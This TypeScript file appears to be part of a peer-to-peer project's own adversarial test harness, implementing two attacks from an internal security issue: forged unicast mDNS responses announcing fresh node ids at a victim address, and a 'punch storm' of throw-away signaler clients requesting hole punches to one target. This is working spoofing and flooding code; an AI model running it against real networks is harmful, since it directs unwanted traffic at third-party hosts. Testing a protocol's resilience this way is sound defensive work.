/**
 * Attacks that make a node connect to others (findings 1, 4 and 5 of issue 8): forged
 * unicast mDNS responses announcing fresh ids at a victim, and throw-away signaler clients
 * asking for punches to one target (optionally registering "local" endpoints that point at
 * a victim).
 */
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { createRequire } from 'node:module';
import { buildAnnouncement } from '../../../src/discovery/index.js';
import { nodeIdFromPublicKey, publicKeyFromNodeId } from '../../../src/identity/index.js';
import { FrameType, SignalErrorCode, decodeSignalError, encodePunchRequest, encodeRegister } from '../../../src/wire/index.js';
import { bump, type Counts } from './attacks-sessions.js';
import { RawSession, pause, pool, sleep } from './raw-session.js';
import { MAX_ATTACK_SESSIONS, MAX_MDNS_PACKETS, type MdnsSpec, type PunchStormSpec } from './spec.js';

/** The part of dns-packet (a dev dependency without types) this uses. */
interface DnsPacket {
  encode(p: unknown): Buffer;
  AUTHORITATIVE_ANSWER: number;
}
const dnsPacket = createRequire(import.meta.url)('dns-packet') as DnsPacket;
const MDNS_PORT = 5353;

/** Forged unicast mDNS responses: each announces `idsPerPacket` fresh ids at the victim. */
export async function mdns(spec: MdnsSpec, deadline: number): Promise<Counts> {
  const counts: Counts = {};
  const sock = dgram.createSocket('udp4');
  await new Promise<void>((r) => sock.bind(0, r));
  if (spec.ttl > 0) sock.setTTL(spec.ttl);
  const total = Math.min(MAX_MDNS_PACKETS, Math.ceil((spec.pps * spec.durationMs) / 1000));
  const gap = 1000 / spec.pps;
  const started = Date.now();
  for (let i = 0; i < total && Date.now() < deadline; i++) {
    const answers: unknown[] = [];
    const additionals: unknown[] = [];
    for (let k = 0; k < spec.idsPerPacket; k++) {
      const a = buildAnnouncement({ id: nodeIdFromPublicKey(randomBytes(32)), port: spec.victimPort, addresses: [spec.victim] });
      answers.push(...a.answers);
      additionals.push(...(a.additionals ?? []));
    }
    const bytes = dnsPacket.encode({ type: 'response', flags: dnsPacket.AUTHORITATIVE_ANSWER, answers, additionals });
    await new Promise<void>((r) => sock.send(bytes, MDNS_PORT, spec.target, () => r()));
    bump(counts, 'packets');
    bump(counts, 'ids', spec.idsPerPacket);
    const wait = started + (i + 1) * gap - Date.now();
    if (wait > 0) await sleep(wait);
  }
  sock.close();
  return counts;
}

/**
 * Punch storm: throw-away ids register with the signaler (with `locals` as their local
 * endpoints) and each asks, every `intervalMs`, for a punch to the target.
 */
export async function punchStorm(spec: PunchStormSpec, deadline: number): Promise<Counts> {
  const counts: Counts = {};
  const target = publicKeyFromNodeId(spec.target);
  const clients: RawSession[] = [];
  await pool(Array.from({ length: Math.min(spec.ids, MAX_ATTACK_SESSIONS) }), 8, async () => {
    let registered = false;
    const s = await RawSession.open({
      target: spec.signaler,
      onFrame: (type, payload) => {
        if (type === FrameType.REGISTERED) registered = true;
        else if (type === FrameType.PUNCH_START) bump(counts, 'punch_start');
        else if (type === FrameType.SIGNAL_ERROR) {
          const code = decodeSignalError(payload).code;
          bump(counts, `signal_error.${Object.entries(SignalErrorCode).find(([, v]) => v === code)?.[0] ?? code}`);
        }
      },
    }).catch(() => undefined);
    if (!s) return bump(counts, 'connect_failed');
    s.send(FrameType.REGISTER, encodeRegister({ listenPort: spec.listenPort, local: spec.locals }));
    const until = Date.now() + 5_000;
    while (!registered && s.open && Date.now() < until) await sleep(20);
    if (!registered) {
      bump(counts, 'not_registered');
      return s.destroy();
    }
    bump(counts, 'registered');
    clients.push(s);
  });
  let reqId = 1;
  await Promise.all(
    clients.map(async (s, i) => {
      // Spread the requests over the interval rather than all at once.
      await pause((i * spec.intervalMs) / Math.max(1, clients.length), deadline);
      while (Date.now() < deadline && s.open) {
        s.send(FrameType.PUNCH_REQUEST, encodePunchRequest({ reqId: reqId++ & 0xffffffff, target }));
        bump(counts, 'requests');
        await pause(spec.intervalMs, deadline);
      }
    }),
  );
  // The last answers are on their way.
  await sleep(300);
  for (const s of clients) s.destroy();
  return counts;
}
